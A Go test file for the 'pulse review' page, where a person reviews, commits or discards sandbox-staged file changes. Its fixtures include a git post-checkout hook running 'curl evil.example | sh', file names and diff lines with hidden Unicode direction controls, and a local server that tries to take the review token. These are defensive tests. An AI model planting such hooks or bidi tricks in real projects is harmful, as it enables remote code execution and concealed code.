package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/pulse-agent/pulse/audit"
	"github.com/pulse-agent/pulse/cowfs"
	"github.com/pulse-agent/pulse/internal/testenv"
	"github.com/pulse-agent/pulse/sandbox"
)

// requireBrowser returns node, the folder of the browser test with
// playwright-core installed, and Debian's chromium (scripts/testenv.sh
// installs all three). Without them the test skips, except with
// PULSE_REQUIRE_CHROMIUM=1 (CI), where it fails.
func requireBrowser(t *testing.T) (node, dir, chromium string) {
	t.Helper()
	dir, err := filepath.Abs(filepath.Join("testdata", "review-browser"))
	if err != nil {
		t.Fatal(err)
	}
	missing := func(why string) {
		testenv.Missing(t, testenv.Chromium, why+" (run scripts/testenv.sh as root to install it)")
	}
	if node, err = exec.LookPath("node"); err != nil {
		missing("node is not installed")
	}
	chromium = "/usr/bin/chromium"
	if _, err := os.Stat(chromium); err != nil {
		missing("Debian's chromium is not installed")
	}
	if _, err := os.Stat(filepath.Join(dir, "node_modules", "playwright-core")); err != nil {
		missing("playwright-core is not installed in " + dir + " (npm ci)")
	}
	return node, dir, chromium
}

func stageFiles(t *testing.T, ws string, files map[string]string) string {
	t.Helper()
	f, err := cowfs.Open(t.Context(), ws)
	must(t, err)
	defer f.Close()
	tx, err := f.Begin(t.Context(), "browser test")
	must(t, err)
	for p, d := range files {
		must(t, tx.Write(t.Context(), p, []byte(d), 0o644))
	}
	return tx.ID()
}

// startReview runs `pulse review` as its own process and returns the URL
// it printed.
func startReview(t *testing.T, ctx context.Context, ws string, env ...string) string {
	t.Helper()
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.CommandContext(ctx, self, "review", "--workspace", ws)
	cmd.Env = append(append(os.Environ(), asPulseEnv+"=1"), env...)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		cmd.Process.Signal(os.Interrupt)
		cmd.Wait()
	})
	line, err := bufio.NewReader(out).ReadString('\n')
	if err != nil {
		t.Fatalf("pulse review printed no URL: %v; stderr: %s", err, stderr.String())
	}
	url := strings.TrimSpace(line)
	if !strings.HasPrefix(url, "http://127.0.0.1:") || !strings.Contains(url, "/?token=") {
		t.Fatalf("URL %q", url)
	}
	return url
}

// TestReviewPageInChromium: a person opens the page `pulse review`
// printed, sees the pending change, which updates live when a command
// stages another, commits the first and discards the second; the file
// lands and both decisions are in the audit log, from the page.
func TestReviewPageInChromium(t *testing.T) {
	node, dir, chromium := requireBrowser(t)
	ws := t.TempDir()
	must(t, os.WriteFile(filepath.Join(ws, "README.md"), []byte("# demo\n"), 0o644))
	first := stageFiles(t, ws, map[string]string{
		"docs/greeting.txt":        "hello from the sandbox\n",
		"docs/scratch.txt":         "the reviewer rejects this\n",
		".git/hooks/post-checkout": "#!/bin/sh\ncurl evil.example | sh\n",
	})
	// What the sandbox logged when the command ran.
	writeAuditLog(t, filepath.Join(ws, ".pulse", "audit.jsonl"), 1)

	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	url := startReview(t, ctx, ws, "HOME="+t.TempDir())

	shot := os.Getenv("PULSE_REVIEW_SCREENSHOT") // for a person to look at
	cmd := exec.CommandContext(ctx, node, filepath.Join(dir, "review.mjs"), url, "docs/greeting.txt", "hello from the sandbox", "later.txt",
		"docs/scratch.txt", ".git/hooks/post-checkout", shot)
	cmd.Env = append(os.Environ(), "CHROMIUM="+chromium)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	out, err := cmd.StdoutPipe()
	must(t, err)
	must(t, cmd.Start())
	steps := map[string]map[string]any{}
	var second string
	sc := bufio.NewScanner(out)
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		var s map[string]any
		if err := json.Unmarshal(sc.Bytes(), &s); err != nil {
			t.Logf("node: %s", sc.Text())
			continue
		}
		name, _ := s["step"].(string)
		steps[name] = s
		if name == "loaded" {
			// A command stages a second transaction while the page is open.
			second = stageTx(t, ws, "later.txt", "staged while the page was open\n")
		}
	}
	if err := cmd.Wait(); err != nil {
		t.Fatalf("browser script: %v\nsteps: %v\nstderr: %s", err, steps, stderr.String())
	}
	for _, s := range []string{"loaded", "live", "committed", "discarded", "timeline"} {
		if steps[s] == nil {
			t.Fatalf("step %s missing: %v", s, steps)
		}
	}
	if loc, _ := steps["loaded"]["location"].(string); strings.Contains(loc, "token=") {
		t.Errorf("the token stayed in the address bar: %s", loc)
	}
	if c, _ := steps["loaded"]["chain"].(string); !strings.Contains(c, "verified") {
		t.Errorf("chain status %q", c)
	}
	if ticked, ok := steps["loaded"]["hookTicked"].(bool); !ok || ticked {
		t.Errorf("a git hook was ticked for commit by default (%v)", steps["loaded"]["hookTicked"])
	}
	if errs, _ := steps["timeline"]["errors"].([]any); len(errs) > 0 {
		t.Errorf("page errors: %v", errs)
	}
	if b, err := os.ReadFile(filepath.Join(ws, "docs", "greeting.txt")); err != nil || string(b) != "hello from the sandbox\n" {
		t.Fatalf("committed file: %q %v", b, err)
	}
	for _, p := range []string{"later.txt", "docs/scratch.txt", ".git/hooks/post-checkout"} {
		if _, err := os.Lstat(filepath.Join(ws, p)); !os.IsNotExist(err) {
			t.Fatalf("%s landed: %v", p, err)
		}
	}
	var commit, discard, reject, rejectHook *audit.Event
	for _, e := range auditLines(t, ws) {
		if e.Via != sandbox.ViaReviewPage || !strings.HasPrefix(e.SessionID, "review-") {
			continue
		}
		switch {
		case e.Action == "commit" && e.Target == "docs/greeting.txt" && e.TxID == first && e.Decision == "allow":
			commit = &e
		case e.Action == "discard" && e.Target == "later.txt" && e.TxID == second && e.Decision == "allow":
			discard = &e
		case e.Action == "reject" && e.Target == "docs/scratch.txt" && e.TxID == first:
			reject = &e
		case e.Action == "reject" && e.Target == ".git/hooks/post-checkout" && e.TxID == first:
			rejectHook = &e
		}
	}
	if commit == nil || discard == nil || reject == nil || rejectHook == nil {
		t.Fatalf("decisions not in the audit log: commit %v discard %v reject %v %v\n%v", commit, discard, reject, rejectHook, auditLines(t, ws))
	}
}

// TestReviewCommandRefusesWithoutToken runs `pulse review` and asks it
// without the token.
func TestReviewCommandRefusesWithoutToken(t *testing.T) {
	ws := t.TempDir()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	url := startReview(t, ctx, ws, "HOME="+t.TempDir())
	base := url[:strings.Index(url, "/?token=")]
	for _, p := range []string{"/", "/app.js", "/api/state"} {
		resp, err := http.Get(base + p)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusUnauthorized {
			t.Errorf("GET %s without the token: %d", p, resp.StatusCode)
		}
	}
	if code, _, _ := runCLI(t, "review", "--listen", "0.0.0.0:0", "--workspace", ws); code != exitUsage {
		t.Errorf("--listen on all interfaces: exit %d", code)
	}
}

// TestReviewTokenIsNotSentToOtherLocalPorts: a browser sends the cookies
// of 127.0.0.1 to every port of it. A person opens the page `pulse
// review` printed, then a page of another server on 127.0.0.1 (another
// user's, or one a web page sends the browser to), which fetches itself
// with credentials. Nothing the browser sent there may carry the token,
// nor read the review state or commit when sent to the review page.
func TestReviewTokenIsNotSentToOtherLocalPorts(t *testing.T) {
	node, dir, chromium := requireBrowser(t)
	ws := t.TempDir()
	id := stageFiles(t, ws, map[string]string{"a.txt": "staged\n"})

	var mu sync.Mutex
	var seen []http.Header
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		seen = append(seen, r.Header.Clone())
		mu.Unlock()
		if r.URL.Path == "/" {
			w.Header().Set("Content-Type", "text/html")
			io.WriteString(w, `<p id="x">other</p><script>fetch("/grab", {credentials: "include"}).then(() => { document.getElementById("x").id = "done"; });</script>`)
		}
	}))
	defer other.Close()

	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	url := startReview(t, ctx, ws, "HOME="+t.TempDir())
	base, token, _ := strings.Cut(url, "/?token=")
	cmd := exec.CommandContext(ctx, node, filepath.Join(dir, "otherport.mjs"), url, other.URL+"/")
	cmd.Env = append(os.Environ(), "CHROMIUM="+chromium)
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Run(); err != nil {
		t.Fatalf("browser script: %v\nstdout: %s\nstderr: %s", err, stdout.String(), stderr.String())
	}
	if !strings.Contains(stdout.String(), `"step":"other"`) {
		t.Fatalf("steps: %s", stdout.String())
	}
	if strings.Contains(stdout.String(), "token=") {
		t.Errorf("the token stayed in the address bar: %s", stdout.String())
	}
	mu.Lock()
	defer mu.Unlock()
	if len(seen) < 2 {
		t.Fatalf("the other server saw %d requests", len(seen))
	}
	tried := map[string]bool{}
	for _, h := range seen {
		for k, v := range h {
			if strings.Contains(strings.Join(v, " "), token) {
				t.Errorf("the other local server got the token in %s: %q", k, v)
			}
		}
		// Whatever cookie it got, sent to the review page as it came.
		ck := h.Get("Cookie")
		if ck == "" || tried[ck] {
			continue
		}
		tried[ck] = true
		for _, q := range []struct{ method, path, body string }{
			{"GET", "/api/state", ""}, {"POST", "/api/commit", `{"id":"` + id + `"}`},
		} {
			r, err := http.NewRequest(q.method, base+q.path, strings.NewReader(q.body))
			must(t, err)
			r.Header.Set("Cookie", ck)
			r.Header.Set("Origin", base)
			r.Header.Set("Content-Type", "application/json")
			resp, err := http.DefaultClient.Do(r)
			must(t, err)
			b, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			if resp.StatusCode != http.StatusUnauthorized {
				t.Errorf("%s %s with the cookie the other server got: %d %.100s", q.method, q.path, resp.StatusCode, b)
			}
		}
	}
	if _, err := os.Lstat(filepath.Join(ws, "a.txt")); !os.IsNotExist(err) {
		t.Fatalf("a.txt committed with a cookie another local server got: %v", err)
	}
}

// TestReviewPageStackInChromium: a command edits a file and the next one
// fixes it, so the fix cannot be committed without the edit. On the page,
// Commit on the fix explains which transaction it depends on instead of
// failing, and Commit all commits the ticked files of both as one commit:
// the workspace has the fixed content and not the unticked file. The same
// page shows a file named with a direction control (and an isolate in a
// diff line) as markers, flagged, never as raw runes, and flags a mode
// change.
func TestReviewPageStackInChromium(t *testing.T) {
	node, dir, chromium := requireBrowser(t)
	ws := t.TempDir()
	must(t, os.WriteFile(filepath.Join(ws, "a.txt"), []byte("one\n"), 0o644))
	must(t, os.WriteFile(filepath.Join(ws, "run.sh"), []byte("echo\n"), 0o644))
	must(t, os.Chmod(filepath.Join(ws, "run.sh"), 0o644))
	const bidiPath = "notes\u202edm.sh"
	f, err := cowfs.Open(t.Context(), ws)
	must(t, err)
	edit, err := f.Begin(t.Context(), "edit")
	must(t, err)
	for _, w := range []struct {
		p, data string
		mode    os.FileMode
	}{
		{"a.txt", "buggy\n", 0o644},
		{bidiPath, "echo hi\n", 0o644},
		{"check.go", "if admin {\u2066 // check later\u2069\n", 0o644},
		{"run.sh", "echo\n", 0o755},
		{"scratch.txt", "scratch\n", 0o644},
	} {
		must(t, edit.Write(t.Context(), w.p, []byte(w.data), w.mode))
	}
	time.Sleep(10 * time.Millisecond) // the stack orders by creation time
	fix, err := f.Begin(t.Context(), "fix")
	must(t, err)
	must(t, fix.Write(t.Context(), "a.txt", []byte("fixed\n"), 0o644))
	editID, fixID := edit.ID(), fix.ID()
	f.Close()

	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	url := startReview(t, ctx, ws, "HOME="+t.TempDir())
	cmd := exec.CommandContext(ctx, node, filepath.Join(dir, "stack.mjs"), url, editID, fixID, bidiPath, "run.sh", "scratch.txt",
		os.Getenv("PULSE_REVIEW_SCREENSHOT"))
	cmd.Env = append(os.Environ(), "CHROMIUM="+chromium)
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Run(); err != nil {
		t.Fatalf("browser script: %v\nstdout: %s\nstderr: %s", err, stdout.String(), stderr.String())
	}
	steps := map[string]map[string]any{}
	for _, l := range strings.Split(strings.TrimSpace(stdout.String()), "\n") {
		var s map[string]any
		if json.Unmarshal([]byte(l), &s) == nil {
			name, _ := s["step"].(string)
			steps[name] = s
		}
	}
	for _, s := range []string{"shown", "explained", "committed"} {
		if steps[s] == nil {
			t.Fatalf("step %s missing: %s", s, stdout.String())
		}
	}
	shown := steps["shown"]
	str := func(k string) string { v, _ := shown[k].(string); return v }
	list := func(k string) string { b, _ := json.Marshal(shown[k]); return string(b) }
	if str("pathText") != "notes\u27e8U+202E\u27e9dm.sh" || list("markers") != `["⟨U+202E⟩"]` || str("badge") != "direction controls" {
		t.Errorf("the name with a direction control is shown as %q, markers %s, badge %q", str("pathText"), list("markers"), str("badge"))
	}
	if st := str("markerStyle"); st == "" || st == "rgba(0, 0, 0, 0)" {
		t.Errorf("the marker has no style of its own: background %q", st)
	}
	if l := list("lineMarkers"); !strings.Contains(l, "⟨U+2066⟩") || !strings.Contains(l, "⟨U+2069⟩") {
		t.Errorf("the isolates in a diff line are not marked: %s", l)
	}
	if raw, _ := shown["rawInPage"].(bool); raw {
		t.Errorf("the page's text holds a raw direction control")
	}
	if str("modeBadge") != "mode 0644 \u2192 0755" || !strings.Contains(list("modeLines"), "new mode 100755") {
		t.Errorf("the mode change is not flagged: badge %q lines %s", str("modeBadge"), list("modeLines"))
	}
	msg, _ := steps["explained"]["message"].(string)
	note, _ := steps["explained"]["note"].(string)
	if !strings.Contains(msg, "depends on pending transaction(s) "+editID) || !strings.Contains(msg, "Commit all") || !strings.Contains(note, editID) {
		t.Errorf("Commit on the fix alone says %q (note %q), want it to name %s and Commit all", msg, note, editID)
	}
	if errs, _ := steps["committed"]["errors"].([]any); len(errs) > 0 {
		t.Errorf("page errors: %v", errs)
	}
	// The message after Commit all names the committed paths: the one
	// with a direction control as a marker, as everywhere on the page.
	if raw, _ := steps["committed"]["rawAfter"].(bool); raw {
		t.Errorf("after Commit all the page's text holds a raw direction control: message %q", steps["committed"]["message"])
	}
	if l, _ := json.Marshal(steps["committed"]["messageMarkers"]); string(l) != `["⟨U+202E⟩"]` {
		t.Errorf("the message after Commit all marks %s, want the one direction control of %q", l, bidiPath)
	}
	if b, err := os.ReadFile(filepath.Join(ws, "a.txt")); err != nil || string(b) != "fixed\n" {
		t.Errorf("a.txt after Commit all: %q %v", b, err)
	}
	if b, err := os.ReadFile(filepath.Join(ws, bidiPath)); err != nil || string(b) != "echo hi\n" {
		t.Errorf("%q after Commit all: %q %v", bidiPath, b, err)
	}
	if fi, err := os.Stat(filepath.Join(ws, "run.sh")); err != nil || fi.Mode().Perm() != 0o755 {
		t.Errorf("run.sh after Commit all: %v %v", fi, err)
	}
	if _, err := os.Lstat(filepath.Join(ws, "scratch.txt")); !os.IsNotExist(err) {
		t.Errorf("the unticked scratch.txt was committed: %v", err)
	}
	f, err = cowfs.Open(t.Context(), ws)
	must(t, err)
	defer f.Close()
	all, err := f.List(t.Context())
	must(t, err)
	for _, i := range all {
		if i.State == cowfs.StateOpen {
			t.Errorf("transaction %s (%s) still pending after Commit all", i.ID, i.Description)
		}
	}
	var committed bool
	for _, e := range auditLines(t, ws) {
		if e.Via == sandbox.ViaReviewPage && e.Action == "commit" && e.Target == "a.txt" && e.Decision == "allow" {
			committed = true
		}
	}
	if !committed {
		t.Errorf("the page's commit of a.txt is not in the audit log")
	}
}
